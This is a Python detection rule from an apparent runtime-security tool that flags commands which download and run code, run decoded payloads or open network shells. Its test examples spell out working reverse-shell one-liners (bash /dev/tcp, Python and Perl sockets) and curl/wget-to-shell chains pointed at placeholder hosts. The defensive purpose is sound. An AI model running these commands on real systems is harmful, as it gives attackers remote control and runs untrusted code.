"""Execution:Runtime/SuspiciousCommand: a command line that downloads and runs code, or runs a known-malicious pattern.

Severity varies by mechanism, as GuardDuty's does:
- High: shell redirection to ``/dev/tcp``/``/dev/udp``; interpreter one-liners that wire a socket
  to a shell (python/perl/php/ruby); download piped into a shell from a raw IP address.
- Medium: download piped into a shell or interpreter from a named host; base64/xxd-decoded
  payload piped into a shell; a file downloaded to /tmp, /var/tmp or /dev/shm, made executable and run;
  a download, then ``chmod +x NAME``, then NAME run (``cd /tmp && wget URL && chmod +x b && ./b``),
  anywhere (issue 17; the same as separate execs is ``Execution:Runtime/DownloadedFileExecuted``).
"""

from __future__ import annotations

import re
from typing import Any, ClassVar, Final

from vigil import sample as s
from vigil import severity
from vigil.detection import Context, Detection, Example, Meta
from vigil.detections._common import command_context, memo_by_command
from vigil.events import ProcessActivity
from vigil.vocab import SHELL_NAMES, base_name, shell_command

_RUNNERS = r"(?:sudo\s+)?(?:/usr/bin/|/bin/)?(?:ba|da|z|k)?sh|python[0-9.]*|perl|ruby|php|node"
_PIPE_TO_SHELL: Final = re.compile(rf"\b(?:curl|wget|fetch)\b[^|;&]*\|\s*(?:{_RUNNERS})\b")
_RAW_IP_URL: Final = re.compile(r"(?:https?|ftp)://\d{1,3}(?:\.\d{1,3}){3}")
_DECODE_EXEC: Final = re.compile(
    rf"(?:base64\s+(?:-d|--decode|-D)|xxd\s+-r|openssl\s+(?:enc\s+)?-?base64\s+-d)[^|;]*\|\s*(?:{_RUNNERS})\b"
)
_DROP_RUN: Final = re.compile(
    r"\b(?:curl|wget)\b[^;&|]*(?:/tmp|/var/tmp|/dev/shm)/(\S+).*?chmod\s+[+0-7a-z]*x?[^;&|]*(?:/tmp|/var/tmp|/dev/shm)/"
)
_SEPARATORS: Final = re.compile(r"[;&|\n()]+")
_EXEC_MODE: Final = re.compile(r"^(?:[ugoa]*\+\w*x\w*|[0-7]?[1357][0-7]{2})$")


def _download_chmod_run(script: str) -> bool:
    """A download naming NAME (the URL's last part, ``-o NAME``), then ``chmod +x NAME``, then NAME run.

    One linear pass over the script's commands (no backtracking on hostile command lines).
    """
    downloaded: set[str] = set()
    executable: set[str] = set()
    for command in _SEPARATORS.split(script):
        words = command.split()
        if words and words[0] == "nohup":
            words = words[1:]
        if not words:
            continue
        prog = words[0].rsplit("/", 1)[-1]
        if prog in ("curl", "wget") and any("://" in w for w in words):
            downloaded.update(w.rstrip("/").rsplit("/", 1)[-1] for w in words[1:])
        elif prog == "chmod":
            modes = [w for w in words[1:] if not w.startswith("-")]
            if len(modes) >= 2 and _EXEC_MODE.match(modes[0]):
                executable.update(n for n in (w.rsplit("/", 1)[-1] for w in modes[1:]) if n in downloaded)
        elif "/" in words[0] and prog in executable:  # ./NAME or /path/NAME (a bare NAME is a PATH lookup)
            return True
    return False


_DEV_NET: Final = ("/dev/tcp/", "/dev/udp/")
_INTERP_FLAGS: Final = {"python": "-c", "perl": "-e", "ruby": "-e", "php": "-r", "node": "-e"}
_SOCKET_SHELL: Final = re.compile(
    r"(?:socket|fsockopen|TCPSocket|net\.connect|IO::Socket)[\s\S]*(?:dup2|pty\.spawn|subprocess|exec|spawn|/bin/(?:ba)?sh|popen|system)",
    re.I,
)


def _interp(p: Any) -> str:
    name = base_name(p).rstrip("0123456789.")
    return name if name in _INTERP_FLAGS else ""


@memo_by_command
def _mechanism(event: ProcessActivity) -> tuple[str, float]:
    p = event.process
    script = shell_command(p)
    if script:
        if any(d in script for d in _DEV_NET):
            return "dev-tcp-redirect", severity.HIGH
        if _PIPE_TO_SHELL.search(script):
            return "download-pipe-shell", severity.HIGH if _RAW_IP_URL.search(script) else severity.MEDIUM
        if _DECODE_EXEC.search(script):
            return "decode-and-execute", severity.MEDIUM
        if _DROP_RUN.search(script) or ("chmod" in script and _download_chmod_run(script)):
            return "download-chmod-execute", severity.MEDIUM
        return "", 0.0
    lang = _interp(p)
    if lang and len(p.args) >= 3:
        flag = _INTERP_FLAGS[lang]
        for i in range(1, len(p.args) - 1):
            if p.args[i] == flag and _SOCKET_SHELL.search(p.args[i + 1]):
                return f"{lang}-socket-shell", severity.HIGH
    return "", 0.0


class ExecutionSuspiciousCommand(Detection):
    meta = Meta(
        type="Execution:Runtime/SuspiciousCommand",
        severity=severity.MEDIUM,
        title="A suspicious command was executed",
        description=(
            "A process ran a command line that downloads code and runs it, decodes and runs a hidden payload, or opens a "
            "shell over the network (bash /dev/tcp redirection, interpreter socket one-liners)."
        ),
        mitre=("T1059.004", "T1059.006", "T1105", "T1027"),
        runbook=(
            "Read runtimeDetails.context.commandLineExample: fetch the URL's content from an isolated system if needed, look "
            "for what it installed (new files, cron, services), and check the lineage for the entry point."
        ),
        false_positives=(
            "Installers run as `curl ... | sh` by administrators (Medium; suppress by command line).",
        ),
        references=(
            "https://attack.mitre.org/techniques/T1059/004/",
            "https://attack.mitre.org/techniques/T1105/",
        ),
    )
    kinds = frozenset({"process_exec"})
    # a script needs a shell (shell_command: is_shell, versions stripped); a one-liner an interpreter
    # of _INTERP_FLAGS (versions stripped): nothing else can have a mechanism
    programs = SHELL_NAMES | frozenset(_INTERP_FLAGS)

    def match(self, event: ProcessActivity, ctx: Context) -> bool:
        return _mechanism(event)[0] != ""

    def severity(self, event: ProcessActivity) -> float:
        return _mechanism(event)[1] or self.meta.severity

    def dedup_key(self, event: ProcessActivity) -> str:
        return f"{_mechanism(event)[0]}|{event.process.cmd_line[:256]}"

    def context(self, event: ProcessActivity, ctx: Context) -> dict[str, Any]:
        return command_context(event.process)

    fires: ClassVar = (
        Example("bash /dev/tcp reverse shell", (s.exec_(s.proc("/bin/bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", uid=33)),)),
        Example("curl from a raw IP piped to sh", (s.exec_(s.proc("/bin/sh", "-c", "curl -fsSL http://198.51.100.9/x.sh | sh")),)),
        Example("wget piped to bash from a domain", (s.exec_(s.proc("/bin/sh", "-c", "wget -qO- https://get.badexample.net/i | bash")),)),
        Example("base64 payload piped to sh", (s.exec_(s.proc("/bin/sh", "-c", "echo Y3VybCBldmlsCg== | base64 -d | sh")),)),
        Example("download, chmod, run in /tmp", (s.exec_(s.proc("/bin/sh", "-c", "wget -q http://x.badexample.net/k -O /tmp/k; chmod +x /tmp/k; /tmp/k")),)),
        Example("cd /tmp, wget, chmod +x, ./b", (s.exec_(s.proc("/bin/bash", "-c", "cd /tmp && wget http://198.51.100.9/b && chmod +x b && ./b")),)),
        Example("curl -O, chmod 755, nohup ./name &", (s.exec_(s.proc("/bin/sh", "-c", "cd /var/www/html/up; curl -sO https://dl.badexample.net/kw; chmod 755 kw; nohup ./kw >/dev/null 2>&1 &", uid=33)),)),
        Example("python socket one-liner", (s.exec_(s.proc("/usr/bin/python3", "-c", "import socket,subprocess,os;s=socket.socket();s.connect(('198.51.100.7',443));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])")),)),
        Example("perl socket one-liner from a versioned binary", (s.exec_(s.proc("/usr/bin/perl5.36", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(443,inet_aton('198.51.100.7')));open(STDIN,'>&S');exec('/bin/sh -i')")),)),
    )  # fmt: skip
    near_misses: ClassVar = (
        Example("curl saving a file", (s.exec_(s.proc("/bin/sh", "-c", "curl -fsSL -o /opt/app/release.tgz https://example.com/r.tgz")),)),
        Example("base64 decode to a file", (s.exec_(s.proc("/bin/sh", "-c", "base64 -d cert.b64 > cert.pem")),)),
        Example("a python one-liner without sockets", (s.exec_(s.proc("/usr/bin/python3", "-c", "import json,sys;print(json.load(sys.stdin)['id'])")),)),
        Example("download, chmod +x another file, run it", (s.exec_(s.proc("/bin/sh", "-c", "curl -sO https://example.com/data.json && chmod +x run.sh && ./run.sh data.json")),)),
        Example("download, chmod 644", (s.exec_(s.proc("/bin/sh", "-c", "wget -q https://example.com/app.conf && chmod 644 app.conf && ./reload app.conf")),)),
        Example("a long-running shell script", (s.exec_(s.proc("/bin/bash", "/opt/app/run.sh")),)),
    )  # fmt: skip
